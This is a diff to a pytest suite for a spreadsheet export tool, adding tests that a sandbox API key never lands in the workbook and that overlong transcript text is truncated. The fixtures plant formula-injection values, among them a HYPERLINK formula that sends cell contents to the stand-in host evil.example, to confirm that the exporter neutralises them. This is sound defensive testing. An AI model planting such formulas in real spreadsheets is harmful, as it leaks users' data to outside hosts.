@@ -32,11 +32,15 @@ ARTIFACTS = Path(__file__).resolve().parents[1] / "test-artifacts"
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click me")'
 
 
+KEYS: list[str] = []  # the sandbox's random key, to look for it in the file
+
+
 @pytest.fixture(scope="module")
 def df() -> Iterator[pd.DataFrame]:
     """A real load over HTTP in London time, with hostile text and links planted in it."""
     with sandbox.serve(plan="enterprise", n_analyses=300) as api:
         frame = load_calls(api.key, api.url, include_transcript=True, tz=TZ, cache=False)
+        KEYS.append(api.key)
     frame.loc[0, "transcript_text"] = EVIL
     frame.loc[1, "agent_id"] = "=1+1"
     frame.loc[2, "contact_id"] = "@SUM(A1:A9)"
@@ -190,6 +194,24 @@ def test_frozen_filtered_formatted_and_never_a_formula(book: Path, df: pd.DataFr
         sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
         assert len(sheets) == len(SHEETS)
         assert not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in sheets)
+
+
+def test_no_key_anywhere_in_the_workbook(book: Path, df: pd.DataFrame) -> None:
+    with zipfile.ZipFile(book) as z:
+        parts = b"".join(z.read(n) for n in z.namelist())  # uncompressed, every part
+    key = KEYS[0]
+    assert key.encode() not in parts and key.split("_", 2)[2].encode() not in parts
+    assert df.attrs["key_hint"].encode() in parts  # the hint is there, to tell keys apart
+
+
+def test_overlong_text_is_cut_with_a_note(df: pd.DataFrame, tmp_path: Path) -> None:
+    small = df.head(3).copy()
+    small.loc[0, "transcript_text"] = "word " * 10_000  # 50,000 characters
+    path = export_report(small, tmp_path / "long.xlsx", charts=False)
+    ws = openpyxl.load_workbook(path)["Calls"]
+    header = [c.value for c in ws[1]]
+    cell = ws.cell(2, header.index("transcript_text") + 1).value
+    assert len(cell) < 32_767 and cell.startswith("word word") and cell.endswith("a cell]")
 
 
 def test_safe_url() -> None:
